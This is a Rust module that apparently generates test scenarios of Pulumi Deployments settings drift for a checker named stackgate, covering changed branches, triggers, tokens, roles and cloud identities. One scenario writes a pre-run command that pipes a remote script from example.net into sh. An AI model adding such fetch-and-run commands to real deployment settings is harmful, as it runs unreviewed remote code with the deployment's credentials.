//! Differences of how Pulumi Deployments runs stacks.

use serde_json::{Value, json};
use stackgate::plan::Tier;

use super::{Kind, Plot, kind, words};

pub(super) const KINDS: &[Kind] = &[
    kind("deployment-branch", "deployment-source", "widened", "medium", |plot| {
        change(plot, "`spike`", |body| {
            body["sourceContext"]["git"]["branch"] = json!("refs/heads/spike");
        })
    }),
    kind("deployment-repository", "deployment-source", "widened", "medium", |plot| {
        change(plot, "acme/scratch", |body| body["vcs"]["repository"] = json!("acme/scratch"))
    }),
    kind("deployment-previews", "deployment-trigger", "widened", "medium", |plot| {
        change(plot, "previews pull requests", |body| body["vcs"]["previewPullRequests"] = json!(true))
    }),
    kind("deployment-push", "deployment-trigger", "widened", "medium", |plot| {
        change(plot, "deploys each push", |body| body["vcs"]["deployCommits"] = json!(true))
    }),
    kind("deployment-command", "deployment-program", "widened", "medium", |plot| {
        change(plot, "curl", |body| {
            body["operationContext"]["preRunCommands"] = json!(["curl -s https://example.net/setup | sh"]);
        })
    }),
    kind("deployment-variable", "deployment-token", "widened", "high", |plot| {
        // The API gives such a value encrypted; what is saved has none.
        let secret = json!({ "secret": "" });
        change(plot, "PULUMI_ACCESS_TOKEN", |body| {
            body["operationContext"]["environmentVariables"] = json!({ "PULUMI_ACCESS_TOKEN": secret });
        })
    }),
    kind("deployment-role", "deployment-identity", "widened", "medium", |plot| {
        let role = plot.random.uuid();
        change(plot, &role.clone(), |body| body["operationContext"]["role"] = json!({ "id": role }))
    }),
    kind("deployment-cloud", "deployment-identity", "widened", "medium", |plot| {
        change(plot, "identity of aws", |body| {
            body["operationContext"]["oidc"]["aws"]["roleArn"] = json!("arn:aws:iam::123456789012:role/administrator");
        })
    }),
    kind("deployment-settings-missing", "deployment-settings-missing", "missing", "low", |plot| {
        let stack = plot.deployed()?;
        plot.world.settings.remove(&stack)?;
        words([&format!("`{stack}`"), "no settings"])
    }),
    kind("deployment-settings-not-declared", "deployment-settings-not-declared", "not-declared", "high", |plot| {
        let stack = plot.stack(Tier::Production)?;
        let body = json!({
            "source": "console",
            "sourceContext": { "git": { "branch": "refs/heads/main", "repoDir": "infra" } },
            "vcs": { "provider": "github", "repository": "acme/scratch", "deployCommits": true,
                "previewPullRequests": false, "pullRequestTemplate": false },
            "version": 1,
        });
        plot.world.settings.insert(stack.clone(), body);
        words([&format!("`{stack}`"), "nobody declared the settings"])
    }),
];

fn change(plot: &mut Plot<'_>, what: &str, change: impl FnOnce(&mut Value)) -> Option<Vec<String>> {
    let stack = plot.deployed()?;
    change(plot.world.settings.get_mut(&stack)?);
    words([&format!("`{stack}`"), what])
}
